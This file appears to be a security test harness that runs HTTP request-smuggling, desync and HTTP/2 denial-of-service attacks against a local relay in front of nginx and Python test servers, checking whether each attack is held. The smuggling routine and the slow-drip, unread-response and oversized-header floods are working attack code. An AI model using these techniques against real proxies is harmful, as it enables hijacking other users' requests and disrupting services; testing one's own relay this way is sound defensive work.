# The attacks on the bindings' relay, each printing what the applications and the partner saw.
# usage: attacks.py NAME...   (run.sh sets the environment: RA_DIR, the bindings' ports)
#
# Ports (loopback): RA_H2 a binding to nginx with HTTP/2, RA_H1 a binding to nginx with
# HTTP/1.1 only, RA_P1 a binding to partner_h1.py, RA_P2 a binding to partner_h2.py.
import os, re, socket, subprocess, sys, threading, time

DIR = os.environ["RA_DIR"]
H2, H1, P1, P2 = (int(os.environ[k]) for k in ("RA_H2", "RA_H1", "RA_P1", "RA_P2"))


def call(port, data, wait=5.0, rcvbuf=0, once=False):
    """Sends `data` on a new connection; returns all that came back within `wait` (with
    `once`, what the first read brought), and closes the connection."""
    s = socket.socket()
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.connect(("127.0.0.1", port))
    s.sendall(data)
    s.settimeout(wait)
    out, t = b"", time.time()
    try:
        while time.time() - t < wait:
            d = s.recv(65536)
            if not d:
                out += b"<closed>"
                break
            out += d
            if once:
                break
    except socket.timeout:
        out += b"<timeout>"
    except OSError as e:
        out += b"<%s>" % type(e).__name__.encode()
    s.close()
    return out


def partner_log(port):
    try:
        return open(f"{DIR}/partner-{port}.log").read().splitlines()
    except FileNotFoundError:
        return []


def restart_partner_h1():
    """A fresh partner_h1 (its connections closed, so the relay's pool makes new ones)."""
    pid = open(f"{DIR}/partner_h1.pid").read().strip()
    subprocess.run(["kill", pid])
    time.sleep(0.5)
    p = subprocess.Popen(["nice", sys.executable, os.environ["RA_SRC"] + "/partner_h1.py", os.environ["RA_P1_UP"], "4096"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=os.environ)
    open(f"{DIR}/partner_h1.pid", "w").write(str(p.pid))
    time.sleep(0.5)


def poison(length):
    """A1: a POST whose partner answers after 1 s, before reading the body, then reads the body.
    The application sends the whole body at once; the relay blocks writing its last part."""
    a = socket.create_connection(("127.0.0.1", P1))
    a.sendall(b"POST /slowread?1 HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % length)
    time.sleep(0.2)
    threading.Thread(target=lambda: a.sendall(b"A" * length), daemon=True).start()
    a.settimeout(10)
    got = b""
    while b"early\n" not in got:
        d = a.recv(4096)
        if not d:
            break
        got += d
    a.close()
    time.sleep(0.1)
    return got


def smuggle():
    """HTTP/1.1 path: an upstream connection goes back to the pool with the end of a request
    body never written; the next request on it is read by the partner as that body's end."""
    # 1. Calibrate: how many of A1's body bytes the relay writes before it blocks (the
    # partner's buffers and the relay's), on a fresh connection.
    up = os.environ["RA_P1_UP"]
    probe = b"GET /probe HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"p" * 400 + b"\r\n\r\n"
    relayed_probe = len(b"GET /probe HTTP/1.1\r\nhost: 127.0.0.1:%s\r\nX-Pad: " % up.encode()) + 400 + 4
    length, total, closed = 3_000_000, None, 0
    for attempt in range(40):
        restart_partner_h1()
        before = len(partner_log(int(up)))
        a1 = poison(length)
        answer = call(P1, probe, 6)
        log = partner_log(int(up))[before:]
        done = [l for l in log if "slowread body complete" in l]
        cut = [l for l in log if "slowread body got" in l]
        own = b'"line": "GET /probe HTTP/1.1"' in answer
        eaten = len(eval(done[-1].split("its last bytes: ", 1)[1]).split(b"A")[-1]) if done else 0
        if eaten:
            total = length - eaten
        elif cut and not own:
            total = int(re.search(r"got (\d+)/", cut[-1]).group(1)) - relayed_probe
        elif cut and own and b"connection: close" in a1:
            # The relay closed A1's connection with the end of its body unsent (the partner
            # read to a close) and the probe went on another: nothing to calibrate on.
            closed += 1
            if closed == 5:
                print(f"HELD: 5 times the answer came while the relay held the end of A1's body "
                      f"(Content-Length {length}); each time the relay closed A1's application "
                      f"connection and upstream connection ({cut[-1].split(' ', 1)[1][:60]}...), and "
                      f"the probe on the next connection got its own answer")
                return
            continue
        elif b"connection: close" in a1:
            length -= 8192  # A1's last part was not even read when the answer came
            continue
        else:
            length += 8192  # A1's body was all written before the answer came
            continue
        print(f"calibrated with A1's Content-Length {length}: {total} bytes of its body reached the "
              f"partner, the rest was never sent, and the partner took the next request's head as it")
        print(f"  the probe (another connection) got: {answer[:100]!r}")
        break
    if total is None:
        print("could not calibrate (the partner never answered while the relay was blocked)")
        return
    # 2. Exploit on a fresh connection: A2's relayed head is exactly what the partner still
    # expects of A1's body, so the partner parses A2's *body* as requests.
    restart_partner_h1()
    raw = (b"GET /smuggled-1 HTTP/1.1\r\nHost: a\r\n\r\n"
           b"GET /sleep?0.5&ANSWER-CHOSEN-BY-ATTACKER HTTP/1.1\r\nHost: a\r\n\r\n")
    relayed_head = b"POST /x HTTP/1.1\r\nhost: 127.0.0.1:%s\r\ncontent-length: %d\r\n\r\n" % (up.encode(), len(raw))
    before = len(partner_log(int(up)))
    print("A1 (attacker) got:", poison(total + len(relayed_head)))
    a2 = b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(raw) + raw
    print("A2 (attacker) sent:", a2)
    print("A2 (attacker) got:", call(P1, a2, 4, once=True))
    time.sleep(0.05)
    v = b"GET /victim HTTP/1.1\r\nHost: x\r\nX-Secret: victim-token-123\r\n\r\n"
    print("V  (another application) sent:", v)
    print("V  got:", call(P1, v, 4, once=True))
    print("the partner parsed:")
    for l in partner_log(int(up))[before:]:
        if "its last bytes" in l:
            print("  ", l[:70], "...", l[-120:])
        elif "fill:" not in l:
            print("  ", l[:220])


def h2_unread():
    """HTTP/2 path: three connections that never read their answers stall everyone's answers."""
    hold = []
    for _ in range(3):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.connect(("127.0.0.1", H2))
        s.sendall(b"GET /huge.bin HTTP/1.1\r\nHost: x\r\n\r\n")
        hold.append(s)
    for label, pause in (("2 s", 2), ("20 s", 18)):
        time.sleep(pause)
        t = time.time()
        out = call(H2, b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 8)
        print(f"after {label}, another application's GET /index.html got in {time.time() - t:.1f} s: {out[:90]!r}")
    for s in hold:
        s.close()
    time.sleep(1)
    out = call(H2, b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 8)
    print(f"once they closed: {out[:40]!r}")


def h2_streams(n=130):
    """HTTP/2 path: one uid's slow request bodies take every stream the partner allows."""
    hold = []
    for _ in range(n):
        s = socket.create_connection(("127.0.0.1", H2))
        s.sendall(b"POST /be/x HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\nx")
        hold.append(s)
    stop = []

    def drip():
        while not stop:
            time.sleep(1)
            for s in hold:
                try:
                    s.send(b"x")
                except OSError:
                    pass
    threading.Thread(target=drip, daemon=True).start()
    time.sleep(2)
    out = call(H2, b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 8)
    print(f"with {n} bodies dripping at 1 byte/s, another application's GET got: {out[:70]!r}")
    stop.append(1)
    for s in hold:
        s.close()


def h2_bighdr():
    """HTTP/2 path: one request with a 20 KB header makes nginx close the shared connection."""
    b = socket.create_connection(("127.0.0.1", H2))
    b.sendall(b"POST /be/upload HTTP/1.1\r\nHost: x\r\nContent-Length: 20000\r\n\r\n" + b"u" * 10000)
    time.sleep(1)
    a = call(H2, b"GET /be/a HTTP/1.1\r\nHost: x\r\nX-Long: " + b"a" * 20000 + b"\r\n\r\n", 4)
    print("A (20 KB header) got:", a[:100])
    time.sleep(0.5)
    try:
        b.sendall(b"u" * 10000)
    except OSError as e:
        print("B:", e)
    b.settimeout(6)
    try:
        print("B (another application, upload in flight) got:", b.recv(300)[:200])
    except OSError as e:
        print("B:", e)


def slow_upload():
    """HTTP/1.1 path: a body that keeps coming, a byte every 0.5 s, gets a 408 that says it
    stopped; the HTTP/2 path relays it."""
    for port, name in ((H1, "HTTP/1.1 partner"), (H2, "HTTP/2 partner")):
        s = socket.create_connection(("127.0.0.1", port))
        t = time.time()
        s.sendall(b"POST /be/b HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\n")
        for i in range(10):
            time.sleep(0.5)
            try:
                s.send(b"x")
            except OSError as e:
                print(f"  ({name}: send {i} failed at {time.time() - t:.1f} s: {e})")
                break
        s.settimeout(5)
        try:
            print(f"{name}: {time.time() - t:.1f} s: {s.recv(300)[:150]!r}")
        except OSError as e:
            print(f"{name}: {e}")


def h2_goaway(total=2400, conc=6):
    """HTTP/2 path: nginx's GOAWAY after 1000 requests on a connection fails requests in flight."""
    import collections
    res = collections.Counter()
    lock = threading.Lock()

    def worker(n):
        s = None
        for _ in range(n):
            try:
                if s is None:
                    s = socket.create_connection(("127.0.0.1", H2))
                    s.settimeout(10)
                s.sendall(b"GET /index.html HTTP/1.1\r\nHost: x\r\n\r\n")
                out = b""
                while b"\r\n\r\n" not in out:
                    d = s.recv(65536)
                    if not d:
                        raise EOFError
                    out += d
                head, _, body = out.partition(b"\r\n\r\n")
                m = re.search(rb"content-length: (\d+)", head, re.I)
                while m and len(body) < int(m.group(1)):
                    body += s.recv(65536)
                st = head[9:12].decode()
                if b"connection: close" in head.lower():
                    s.close()
                    s = None
            except Exception as e:  # noqa: BLE001
                st, s = type(e).__name__, None
            with lock:
                res[st] += 1
    ts = [threading.Thread(target=worker, args=(total // conc,)) for _ in range(conc)]
    [t.start() for t in ts]
    [t.join() for t in ts]
    print(f"{total} GETs, {conc} at a time, through the HTTP/2 binding:", dict(res))


def h2_rst_noerror():
    """HTTP/2 path: a stream reset with NO_ERROR before END_STREAM reaches the application as a
    whole chunked answer (CANCEL and INTERNAL_ERROR are cut off)."""
    for code in (0, 8, 2):
        out = call(P2, b"GET /rst-mid-chunked?%d HTTP/1.1\r\nHost: x\r\n\r\n" % code, 4)
        print(f"RST_STREAM code {code} after 'half': {out!r}")


def hostile_h1():
    """Hostile HTTP/1.1 answers (all held: a 502/504, or a closed connection, and the next
    request on a new connection gets its own answer)."""
    cases = ["/extra", "/204body", "/304body", "HEAD /headbody", "/1xxflood?2000", "/101", "/drip",
             "/hdrflood", "/tlsclose", "/tcpclose", "/chunkclose", "/untilclose", "/untilclose-tcp", "/1xxslow",
             "/extra-late?0.3"]
    for p in cases:
        method = b"GET"
        if p.startswith("HEAD "):
            method, p = b"HEAD", p[5:]
        t = time.time()
        out = call(P1, method + b" " + p.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\nGET /next HTTP/1.1\r\nHost: x\r\n\r\n", 5)
        chk = call(P1, b"GET /check HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 5)
        ok = b'"line": "GET /check HTTP/1.1"' in chk
        print(f"{p} ({time.time() - t:.1f} s): {out[:160]!r}\n   the next application gets its own answer: {ok}")


# ---- Attacker and victim as different uids ------------------------------------------------
# The agent admits root and the uids the key is granted to (run.sh grants uid 65534). A part
# runs as uid 65534 through `attacks.py --part NAME ARGS...`: it prints "ready" once it has set
# up, then what it saw, and stops when its standard input closes.

NOBODY = 65534


def other_uid(name, *args, uid=NOBODY):
    """Starts part `name` as `uid` (another application); returns the process once it said
    "ready" (its first line)."""
    cmd = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups",
           os.environ.get("RA_NOBODY_PY", "/usr/bin/python3"), os.path.abspath(__file__), "--part", name,
           *map(str, args)]
    p = subprocess.Popen(cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                         env=os.environ, text=True)
    first = p.stdout.readline()
    if first.strip() != "ready":
        print(f"  (part {name} as uid {uid} did not start: {first.strip()!r})")
    return p


def finish(p, label):
    """Stops a part and prints what it said."""
    out, _ = p.communicate(timeout=60)
    for line in out.splitlines():
        print(f"  [{label}] {line}")


def wait_stop():
    """In a part: waits until the caller closes our standard input."""
    sys.stdin.read()


def part_poison(port, length, query, chunked):
    """A POST the partner answers early; the body sent whole at once. Prints what came back."""
    length, chunked = int(length), chunked == "1"
    a = socket.create_connection(("127.0.0.1", int(port)))
    if chunked:
        head = b"POST /slowread2?%s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" % query.encode()
        body = b"%x\r\n%s\r\n0\r\n\r\n" % (length, b"A" * length)
    else:
        head = b"POST /slowread2?%s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (query.encode(), length)
        body = b"A" * length
    a.sendall(head)
    print("ready", flush=True)
    threading.Thread(target=lambda: a.sendall(body), daemon=True).start()
    a.settimeout(10)
    got = b""
    try:
        while b"early\n" not in got:
            d = a.recv(4096)
            if not d:
                break
            got += d
    except OSError as e:
        got += b"<%s>" % type(e).__name__.encode()
    print(f"A1 got: {got[:200]!r}")
    a.close()
    wait_stop()


def part_unread(port, n, path):
    """`n` connections that ask for `path` and never read the answer."""
    hold = []
    for _ in range(int(n)):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.connect(("127.0.0.1", int(port)))
        s.sendall(b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % path.encode())
        hold.append(s)
    print("ready", flush=True)
    wait_stop()


def part_drip(port, n):
    """`n` request bodies of 1 MB dripping at a byte a second."""
    hold = []
    for _ in range(int(n)):
        s = socket.create_connection(("127.0.0.1", int(port)))
        s.sendall(b"POST /be/x HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\nx")
        hold.append(s)
    stop = []

    def drip():
        while not stop:
            time.sleep(1)
            for s in hold:
                try:
                    s.send(b"x")
                except OSError:
                    pass
    threading.Thread(target=drip, daemon=True).start()
    time.sleep(1)
    print("ready", flush=True)
    wait_stop()
    stop.append(1)


def part_bighdr(port):
    """One request with a 20 KB header field."""
    print("ready", flush=True)
    out = call(int(port), b"GET /be/a HTTP/1.1\r\nHost: x\r\nX-Long: " + b"a" * 20000 + b"\r\n\r\n", 4)
    print(f"A (20 KB header) got: {out[:60]!r}")
    wait_stop()


def part_get(port, path):
    """One GET; prints its status line and how long it took."""
    print("ready", flush=True)
    t = time.time()
    out = call(int(port), b"GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % path.encode(), 8)
    print(f"GET {path}: {time.time() - t:.2f} s: {out[:40]!r}")
    wait_stop()


def part_churn(port, n, seconds):
    """`n` loops of requests with a 20 KB header field (nginx closes the HTTP/2 connection
    over each) for `seconds`: this uid's shared connection is lost and made again and again."""
    stop, count = time.time() + float(seconds), [0]

    def loop():
        while time.time() < stop:
            call(int(port), b"GET /be/c HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Long: " + b"c" * 20000 + b"\r\n\r\n", 4)
            count[0] += 1
    ts = [threading.Thread(target=loop) for _ in range(int(n))]
    [t.start() for t in ts]
    print("ready", flush=True)
    [t.join() for t in ts]
    print(f"{count[0]} requests with a 20 KB header in {seconds} s")
    wait_stop()


PARTS = {f.__name__[5:]: f for f in (part_poison, part_unread, part_drip, part_bighdr, part_get, part_churn)}


def smuggle_xuid():
    """HTTP/1.1 path, attacker uid 65534 and victim root: a partner that answers early, then
    reads the body slowly; the connection with the unsent end of the body must never carry
    another request (the partner log shows how each connection ended)."""
    up = int(os.environ["RA_P1_UP"])
    v = b"GET /victim HTTP/1.1\r\nHost: x\r\nX-Secret: victim-token-123\r\n\r\n"
    sent = {"GET /victim HTTP/1.1", "GET /control HTTP/1.1"}
    bad = 0
    # (body length, "WAIT,RATE" of the partner's early answer and slow read, chunked)
    cases = [(3_000_000, "0", False), (3_000_000, "0.3", False), (3_000_000, "1,200000", False),
             (3_000_000, "0.5,100000", False), (400_000, "0.2", False), (60_000, "0", False),
             (3_000_000, "0.5", True), (3_000_000, "1,200000", True), (20_000, "0", True)]
    for length, query, chunked in cases:
        restart_partner_h1()
        before = len(partner_log(up))
        p = other_uid("poison", P1, length, query, "1" if chunked else "0")
        # A1 has its answer when the part prints; the victim's request follows at once.
        line = p.stdout.readline().strip()
        v_got = call(P1, v, 4, once=True)
        finish(p, "uid 65534")
        for _ in range(40):  # until the partner has read to the end of A1's connection
            time.sleep(0.5)
            log = partner_log(up)[before:]
            if any("slowread2 body" in l for l in log):
                time.sleep(1)  # for the requests after it on that connection
                log = partner_log(up)[before:]
                break
        lines = [re.search(r"req=\d+ '([^']*)'", l).group(1) for l in log if " req=" in l]
        ends = [l.split(" ", 1)[1][:110] for l in log if "slowread2 body" in l]
        strange = [l for l in lines if not l.startswith("POST /slowread2") and l not in sent]
        lost = [r for r in ("GET /victim HTTP/1.1",) if r not in lines]
        own = b'"line": "GET /victim HTTP/1.1"' in v_got
        # A desync shows as a request nobody sent, a request sent that the partner never read
        # as one (taken as the end of A1's body), something else than A1's body read as its
        # end, or the victim without its own answer.
        held = all("not 'A': b''" in e for e in ends)
        bad += (not own) or bool(strange) or bool(lost) or not held
        print(f"body {length}{' chunked' if chunked else ''}, answered after {query}: {line}")
        print(f"   A1's upstream connection ended: {ends or '(the partner is still reading what was sent)'}")
        print(f"   V (root, right after) got: {v_got[:50]!r}")
        print(f"   V got its own answer: {own}; requests the partner parsed that nobody sent: {strange}; "
              f"sent but never parsed as requests: {lost}")
    # Control: a partner that read the whole body before answering keeps the connection,
    # and the next request (another uid's) is served on it.
    restart_partner_h1()
    before = len(partner_log(up))
    out = call(P1, b"POST /trickle?70000 HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n" + b"B" * 60000, 3)
    p = other_uid("get", P1, "/control")
    finish(p, "uid 65534")
    log = partner_log(up)[before:]
    conns = [re.search(r"conn=(\d+)", l).group(1) for l in log if " req=" in l]
    print(f"control (whole body read, then answered): {out[:15]!r}; the next request (uid 65534) went on "
          f"connection(s) {conns} (the same one: the pool is used when it is safe)")
    print(f"smuggle-xuid: {'HELD' if bad == 0 else f'{bad} case(s) GOT THROUGH'}")


def h2_xuid():
    """HTTP/2 path: the h2-unread, h2-streams and h2-bighdr attacks with the attacker as uid
    65534 and the victim as root, beside the same attacker as root (one uid: accepted by
    design)."""
    get = b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    for uid, who in ((0, "same uid"), (NOBODY, "other uid")):
        # Unread answers (client timeout 3 s: no stall can last longer, even for one uid).
        p = other_uid("unread", H2, 3, "/huge.bin", uid=uid)
        time.sleep(0.5)
        t = time.time()
        out = call(H2, get, 8)
        print(f"h2-unread ({who}): the victim's GET took {time.time() - t:.2f} s: {out[:30]!r}")
        finish(p, f"uid {uid}")
        time.sleep(4)
        # 130 request bodies dripping at a byte a second.
        p = other_uid("drip", H2, 130, uid=uid)
        t = time.time()
        out = call(H2, get, 8)
        print(f"h2-streams ({who}): the victim's GET took {time.time() - t:.2f} s: {out[:30]!r}")
        finish(p, f"uid {uid}")
        time.sleep(4)
        # A 20 KB header: nginx closes the attacker's connection; the victim's upload goes on.
        b = socket.create_connection(("127.0.0.1", H2))
        b.sendall(b"POST /be/upload HTTP/1.1\r\nHost: x\r\nContent-Length: 20000\r\n\r\n" + b"u" * 10000)
        time.sleep(1)
        p = other_uid("bighdr", H2, uid=uid)
        time.sleep(1.5)
        b.sendall(b"u" * 10000)
        b.settimeout(6)
        try:
            got = b.recv(300)
        except OSError as e:
            got = repr(e).encode()
        print(f"h2-bighdr ({who}): the victim's upload in flight got: {got[:40]!r}")
        finish(p, f"uid {uid}")
        b.close()
        time.sleep(1)


def stale_error():
    """HTTP/1.1 path: a chunked answer whose connection ends (FIN without close_notify, or a
    reset) in the same read as its last bytes: the error is kept in the application
    connection's buffer and given to its next request, on another upstream connection."""
    up = int(os.environ["RA_P1_UP"])
    for first, second_line in (("/chunked-close", b"POST /after?%d"), ("/chunked-close?close", b"POST /after?%d"),
                               ("/chunked-close", b"GET /after?%d"), ("/chunked-rst", b"POST /after?%d"),
                               ("/index", b"POST /after?%d")):
        outcomes = {}
        delivered = 0
        for i in range(10):
            before = len(partner_log(up))
            s = socket.create_connection(("127.0.0.1", P1))
            s.settimeout(5)
            s.sendall(b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % first.encode())
            got = b""
            try:
                while not got.endswith(b"0\r\n\r\n") and b"content-length" not in got.lower():
                    d = s.recv(65536)
                    if not d:
                        break
                    got += d
                time.sleep(0.1)
                s.sendall(second_line % i + b" HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello")
                second = b""
                while b"\r\n\r\n" not in second:
                    d = s.recv(65536)
                    if not d:
                        break
                    second += d
            except OSError as e:
                second = b"<%s>" % type(e).__name__.encode()
            s.close()
            time.sleep(0.2)
            st = second[9:12].decode() or second[:20].decode()
            if st != "200":
                st += " " + (second.split(b"\r\n\r\n", 1)[-1][:120].decode(errors="replace").strip())
            outcomes[st] = outcomes.get(st, 0) + 1
            if st.startswith("502") and any(f"/after?{i} " in l for l in partner_log(up)[before:]):
                delivered += 1
        what = (second_line % 0).split(b" ")[0].decode()
        print(f"after a whole {first} answer, a {what} on the same application connection: {outcomes}")
        if delivered:
            print(f"   {delivered} of those 502s were for a {what} the partner had received and answered")


def slow_reader():
    """Write timeouts to applications: an application that pauses reading a 20 MB answer for
    5 s (client timeout 3 s), then reads on; how its answer ends. After its head, a cut answer
    should end in a reset, never in a clean close that looks like its end."""
    cases = [(H1, b"GET /huge.bin HTTP/1.1", "HTTP/1.1, content-length, HTTP/1.1 partner"),
             (H1, b"GET /nocl/huge.bin HTTP/1.1", "HTTP/1.1, chunked, HTTP/1.1 partner"),
             (H1, b"GET /nocl/huge.bin HTTP/1.0", "HTTP/1.0, chunked answer de-chunked, HTTP/1.1 partner"),
             (H2, b"GET /nocl/huge.bin HTTP/1.1", "HTTP/1.1, chunked, HTTP/2 partner"),
             (H2, b"GET /nocl/huge.bin HTTP/1.0", "HTTP/1.0, no content-length, HTTP/2 partner")]
    for port, line, label in cases:
        s = socket.socket()
        s.connect(("127.0.0.1", port))
        s.sendall(line + b"\r\nHost: x\r\n\r\n")
        time.sleep(0.3)
        first = s.recv(65536)
        time.sleep(5)
        s.settimeout(10)
        got, end = first, "?"
        try:
            while True:
                d = s.recv(1 << 20)
                if not d:
                    end = "a clean close (FIN)"
                    break
                got += d
        except OSError as e:
            end = type(e).__name__
        s.close()
        head, _, body = got.partition(b"\r\n\r\n")
        whole = b"0\r\n\r\n" if b"chunked" in head else b""
        if len(body) >= 20_000_000:
            looks = "whole"
        elif end.startswith("a clean") and b"content-length" not in head.lower() and body.endswith(whole):
            looks = "CUT, AND LOOKS WHOLE"
        else:
            looks = "cut, and the framing shows it"
        print(f"{label}: {len(body)} of 20000000 body bytes (and chunk framing), then {end}: {looks}")


def h2_uids(n=40):
    """Per-uid HTTP/2 connections: one GET from each of `n` uids (granted for this); the
    agent's upstream connections and RSS after, and 20 s later."""
    ck, home = os.environ["RA_CK"], os.environ["RA_HOME"]
    uids = list(range(61001, 61001 + n))
    subprocess.run([ck, "--home", home, "grant", "cli"] + [f"uid:{u}" for u in uids],
                   check=True, stdout=subprocess.DEVNULL)
    time.sleep(1)
    agent = os.environ["RA_AGENT_PID"]

    def rss():
        for l in open(f"/proc/{agent}/status"):
            if l.startswith("VmRSS"):
                return int(l.split()[1])

    def upstream_conns():
        out = subprocess.run(["ss", "-tnpH", "state", "established"], capture_output=True, text=True).stdout
        ports = {os.environ.get("RA_P2_UP", ""), str(int(os.environ["RA_H2"]) - 100)}
        return sum(1 for l in out.splitlines() if f"pid={agent}," in l and l.split()[-2].rsplit(":", 1)[1] in ports)
    before, c0 = rss(), upstream_conns()
    for u in uids:
        for port in (H2, P2):
            p = other_uid("get", port, "/index.html", uid=u)
            finish(p, f"uid {u}") if u == uids[0] else (p.stdin.close(), p.wait())
    after, c1 = rss(), upstream_conns()
    print(f"{n} uids, one GET each through the nginx h2 and the python h2 bindings: the agent's "
          f"RSS {before} -> {after} KiB ({(after - before) / (2 * n):.0f} KiB per connection), "
          f"its HTTP/2 upstream connections {c0} -> {c1}")
    time.sleep(20)
    print(f"   20 s later: RSS {rss()} KiB, upstream HTTP/2 connections {upstream_conns()}")
    subprocess.run([ck, "--home", home, "revoke", "cli"] + [f"uid:{u}" for u in uids],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def h2_dial_queue(victims=8):
    """HTTP/2 path: one uid (65534) whose connection nginx keeps closing (a 20 KB header on
    every request, 40 at a time) makes a connection again and again; new connections of every
    uid are made one at a time (Dialer::dial), so another uid's first call waits behind them."""
    ck, home = os.environ["RA_CK"], os.environ["RA_HOME"]
    uids = list(range(61101, 61101 + victims))
    subprocess.run([ck, "--home", home, "grant", "cli"] + [f"uid:{u}" for u in uids],
                   check=True, stdout=subprocess.DEVNULL)
    time.sleep(1)
    # Without the attack, a new uid's first call (a new connection): the baseline.
    p = other_uid("get", H2, "/index.html", uid=uids[0])
    finish(p, f"uid {uids[0]}, no attack")
    a = other_uid("churn", H2, 40, 12)
    time.sleep(2)
    for u in uids[1:]:
        p = other_uid("get", H2, "/index.html", uid=u)
        finish(p, f"uid {u}, first call during the attack")
        time.sleep(0.5)
    t = time.time()
    out = call(H2, b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 8)
    print(f"root (its connection made before): {time.time() - t:.2f} s: {out[:30]!r}")
    finish(a, "uid 65534, attacker")
    subprocess.run([ck, "--home", home, "revoke", "cli"] + [f"uid:{u}" for u in uids],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


ATTACKS = {f.__name__.replace("_", "-"): f for f in
           (smuggle, h2_unread, h2_streams, h2_bighdr, slow_upload, h2_goaway, h2_rst_noerror, hostile_h1,
            smuggle_xuid, h2_xuid, stale_error, slow_reader, h2_uids, h2_dial_queue)}

if __name__ == "__main__":
    if sys.argv[1:2] == ["--part"]:
        PARTS[sys.argv[2]](*sys.argv[3:])
        sys.exit(0)
    for name in sys.argv[1:] or ATTACKS:
        print(f"===== {name}: {ATTACKS[name].__doc__.strip().splitlines()[0]}", flush=True)
        ATTACKS[name]()
